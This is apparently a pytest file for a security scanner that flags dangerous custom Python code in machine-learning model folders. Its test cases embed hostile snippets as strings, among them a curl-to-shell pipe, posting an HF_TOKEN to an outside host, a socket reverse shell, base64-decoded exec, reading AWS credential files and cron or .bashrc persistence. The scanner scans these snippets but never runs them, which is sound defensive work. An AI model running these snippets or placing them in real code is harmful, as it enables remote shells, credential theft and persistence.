"""Custom Python code in model folders: ordinary modeling code is only noted (info); commands,
dynamic code, network, secrets, obfuscation and file tampering are reported by line, however
the names are spelled. Sources are written to disk and scanned; nothing here imports them."""

from __future__ import annotations

import base64
import textwrap
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from modeling_samples import CONFIGURATION_TINY, MODELING_TINY

from airlock.findings import Finding, Location, Severity
from airlock.scan.analyzers.python_code import analyze
from airlock.scan.context import Blob
from airlock.scan.formats.python_reader import MAX_SOURCE_BYTES, PythonReader
from airlock.scan.scanner import Scanner
from stub_context import StubContext


def scan(tmp_path: Path, source: str | bytes, name: str = "modeling_x.py") -> list[Finding]:
    path = tmp_path / name
    data = source.encode() if isinstance(source, str) else source
    path.write_bytes(data)
    report = Scanner().scan_paths([path])
    assert report.files[0].kind == "python" and report.files[0].inspected
    return report.findings


def risky(findings: list[Finding]) -> set[tuple[str, Severity]]:
    return {(f.rule_id, f.severity) for f in findings if f.rule_id != "AIR701"}


def code(text: str) -> str:
    return textwrap.dedent(text).lstrip()


@pytest.mark.parametrize(
    ("name", "source"),
    [("modeling_tiny.py", MODELING_TINY), ("configuration_tiny.py", CONFIGURATION_TINY)],
)
def test_ordinary_modeling_code_is_only_noted(tmp_path: Path, name: str, source: str) -> None:
    # modeling_tiny imports .configuration_tiny: a sibling that must be there (else AIR713).
    (tmp_path / "configuration_tiny.py").write_text(CONFIGURATION_TINY)
    findings = scan(tmp_path, source, name)
    assert [(f.rule_id, f.severity) for f in findings] == [("AIR701", Severity.INFO)]
    assert f"`{name}` is custom code that `trust_remote_code=True` would run" in findings[0].message
    assert "transformers" in findings[0].evidence


MALICIOUS: dict[str, tuple[str, set[tuple[str, Severity]]]] = {
    "os.system in __init__": (
        """
        import os
        class Model:
            def __init__(self, config):
                os.system(config.cmd)
        """,
        {("AIR702", Severity.CRITICAL)},
    ),
    "subprocess through an alias": (
        """
        import subprocess as sp
        sp.check_output("curl -s https://x.example/p | sh", shell=True)
        """,
        {("AIR702", Severity.CRITICAL)},
    ),
    "from-import alias with a fixed command": (
        # Renamed on the way in: spelled otherwise than what it reaches is critical (issue 12).
        """
        from os import system as s
        s("nvidia-smi")
        """,
        {("AIR702", Severity.HIGH), ("AIR702", Severity.CRITICAL)},
    ),
    "fixed command spelled plainly": (
        """
        import os
        os.system("nvidia-smi")
        """,
        {("AIR702", Severity.HIGH)},
    ),
    "exec of base64": (
        f"""
        import base64
        exec(base64.b64decode("{base64.b64encode(b"import os").decode()}"))
        """,
        {("AIR703", Severity.CRITICAL), ("AIR706", Severity.HIGH)},
    ),
    "decoded then evaluated": (
        """
        import zlib, codecs
        payload = zlib.decompress(codecs.decode(blob, "hex"))
        eval(payload)
        """,
        {("AIR703", Severity.CRITICAL), ("AIR706", Severity.HIGH)},
    ),
    "token sent over the network": (
        """
        import os, requests
        requests.post("https://collect.example", data=os.environ["HF_TOKEN"])
        """,
        {("AIR704", Severity.MEDIUM), ("AIR705", Severity.HIGH)},
    ),
    "__import__ popen": (
        "__import__('os').popen('id').read()",
        {("AIR702", Severity.CRITICAL), ("AIR703", Severity.HIGH)},
    ),
    "getattr with a computed name": (
        """
        import os
        getattr(os, 'sys' + 'tem')('id')
        """,
        {("AIR702", Severity.CRITICAL), ("AIR706", Severity.HIGH)},
    ),
    "socket reverse shell": (
        """
        import socket, os, pty
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.connect(("10.0.0.1", 4444))
        for fd in (0, 1, 2):
            os.dup2(s.fileno(), fd)
        pty.spawn("/bin/sh")
        """,
        {("AIR704", Severity.MEDIUM), ("AIR702", Severity.CRITICAL)},
    ),
    "exec of literal code": (
        "exec(\"import subprocess; subprocess.run(['id'])\")",
        {("AIR703", Severity.CRITICAL), ("AIR702", Severity.HIGH)},
    ),
    "builtins namespace lookup": (
        "__builtins__.__dict__['ev' + 'al']('1')",
        {("AIR703", Severity.CRITICAL)},
    ),
    "star import": (
        """
        from subprocess import *
        run(command)
        """,
        {("AIR702", Severity.CRITICAL)},
    ),
    "re-exported module": (
        """
        from torch.serialization import os
        os.system(command)
        """,
        {("AIR702", Severity.CRITICAL)},
    ),
    "function handed over as a value": (
        """
        import os, threading
        threading.Thread(target=os.system, args=("id",)).start()
        """,
        {("AIR702", Severity.HIGH)},
    ),
    "torch.load without weights_only": (
        """
        import torch
        state = torch.load(path)
        safe = torch.load(path, weights_only=True)
        """,
        {("AIR703", Severity.HIGH)},
    ),
    "pickle and ctypes": (
        """
        import pickle, ctypes
        pickle.loads(data)
        ctypes.CDLL("libc.so.6")
        """,
        {("AIR703", Severity.HIGH)},
    ),
    "credential files": (
        "keys = open(os.path.expanduser('~/.aws/credentials')).read()",
        {("AIR705", Severity.HIGH)},
    ),
    "file tampering": (
        """
        import shutil
        shutil.rmtree(cache_dir)
        open("/etc/cron.d/job", "w").write(line)
        """,
        # Writing outside the folder is how code persists: high; deleting stays medium.
        {("AIR708", Severity.MEDIUM), ("AIR708", Severity.HIGH)},
    ),
    "hub download": (
        """
        from huggingface_hub import hf_hub_download
        extra = hf_hub_download("org/other", "payload.bin")
        """,
        {("AIR704", Severity.MEDIUM)},
    ),
    "long encoded literal": (
        f"BLOB = '{base64.b64encode(bytes(range(256)) * 64).decode()}'",
        {("AIR706", Severity.HIGH)},
    ),
}


@pytest.mark.parametrize("case", list(MALICIOUS))
def test_malicious_code_is_reported(tmp_path: Path, case: str) -> None:
    source, expected = MALICIOUS[case]
    findings = scan(tmp_path, code(source))
    assert risky(findings) == expected
    assert sum(f.rule_id == "AIR701" for f in findings) == 1
    for finding in findings:
        if finding.rule_id != "AIR701":
            assert finding.message.startswith("Line ") and finding.evidence.startswith("line ")


def test_missing_relative_import(tmp_path: Path) -> None:
    # transformers copies and imports every `from .x import` module with the entry module.
    (tmp_path / "helpers.py").write_text("X = 1\n")
    source = "from .helpers import X\nfrom .payload import run\nimport torch\n"
    missing = [f for f in scan(tmp_path, source) if f.rule_id == "AIR713"]
    assert [(f.evidence, f.severity) for f in missing] == [(".payload", Severity.HIGH)]


def test_findings_name_the_line(tmp_path: Path) -> None:
    findings = scan(tmp_path, "import os\n\n\nos.system(cmd)\n")
    (finding,) = [f for f in findings if f.rule_id == "AIR702"]
    assert finding.message.startswith("Line 4 calls `os.system`")
    assert finding.evidence == "line 4: os.system(cmd)"
    assert finding.location.offset == len("import os\n\n\n")


def test_names_that_only_look_risky_are_quiet(tmp_path: Path) -> None:
    source = """
    import os
    requests = []
    requests.append(1)
    nt = load()
    getattr(nt, name)
    os.environ.get("TOKENIZERS_PARALLELISM")
    model.eval()
    compiled = torch.compile(model)
    open("weights/extra.txt", "w")
    """
    assert risky(scan(tmp_path, code(source))) == set()


def test_declared_encoding_is_still_python(tmp_path: Path) -> None:
    # Not UTF-8, but Python imports it: detection must not skip it as binary.
    source = "# -*- coding: latin-1 -*-\n# caf\xe9\nimport os\nos.system(cmd)\n"
    assert ("AIR702", Severity.CRITICAL) in risky(scan(tmp_path, source.encode("latin-1")))


def test_syntax_error_is_unparseable(tmp_path: Path) -> None:
    findings = scan(tmp_path, "def broken(:\n    pass\n")
    assert [(f.rule_id, f.severity) for f in findings] == [("AIR707", Severity.HIGH)]


def test_huge_file_is_a_resource_limit(tmp_path: Path) -> None:
    findings = scan(tmp_path, b"# padding\n" * (MAX_SOURCE_BYTES // 10 + 1))
    assert [f.rule_id for f in findings] == ["AIR003"]


@pytest.mark.parametrize(
    "source",
    [
        "x = " + "-" * 200_000 + "1",
        "x = 1" + "+1" * 200_000,
        "x = " + "a." * 100_000 + "b",
        "x = " + "(" * 300 + "1" + ")" * 300,
    ],
)
def test_deep_nesting_is_contained(tmp_path: Path, source: str) -> None:
    findings = scan(tmp_path, source)
    assert [f.rule_id for f in findings] in (["AIR003"], ["AIR707"])


def test_home_folder_writes_are_high(tmp_path: Path) -> None:
    source = """
    import os
    from pathlib import Path
    open(os.path.expanduser("~/.bashrc"), "a").write(line)
    (Path.home() / ".profile").write_text(line)
    open(os.path.join(save_directory, "vocab.json"), "w").write(vocab)
    """
    findings = [f for f in scan(tmp_path, code(source)) if f.rule_id == "AIR708"]
    assert [(f.severity, f.evidence[:7]) for f in findings] == [
        (Severity.HIGH, "line 3:"),
        (Severity.HIGH, "line 4:"),
    ]


def test_a_flood_of_findings_keeps_the_worst(tmp_path: Path) -> None:
    source = "import requests\n" + "requests.get(url)\n" * 300 + "import os\nos.system(c)\n"
    assert ("AIR702", Severity.CRITICAL) in risky(scan(tmp_path, source))


def test_issue_count_is_capped(tmp_path: Path) -> None:
    findings = scan(tmp_path, "import os\n" + "os.system(c)\n" * 500)
    assert len(findings) == 201
    assert "not all listed" in findings[0].message


def test_scanning_never_runs_the_code(tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    scan(tmp_path, f"open({str(marker)!r}, 'w').write('x')\nraise SystemExit(3)\n")
    assert not marker.exists()


CODEISH = st.text(alphabet="()[]{}+-*/.,:=#'\"\\\n abcdeilmnoprstxy_0123", max_size=300)


@settings(max_examples=300, deadline=None)
@given(st.one_of(st.text(max_size=300), CODEISH))
def test_any_text_yields_findings_not_errors(text: str) -> None:
    blob = Blob(text.encode("utf-8", "surrogatepass"), "x.py", Location(), "x.py")
    findings = list(PythonReader().scan(blob, StubContext()))
    assert findings and findings[0].rule_id in ("AIR701", "AIR707", "AIR003")


def test_transformers_modeling_files_stay_at_info() -> None:
    transformers = pytest.importorskip("transformers")
    models = Path(transformers.__file__).parent / "models"
    names = ("bert", "gpt2", "llama", "t5", "whisper", "vit", "clip", "mistral", "qwen2", "bart")
    kinds = ("modeling_", "configuration_", "tokenization_", "processing_", "image_processing_")
    files = [p for name in names for p in (models / name).glob("*.py") if p.name.startswith(kinds)]
    assert len(files) > 30
    for path in files:
        loud = [i for i in analyze(path.read_bytes()).issues if i.severity > Severity.INFO]
        assert loud == [], (path.name, loud)
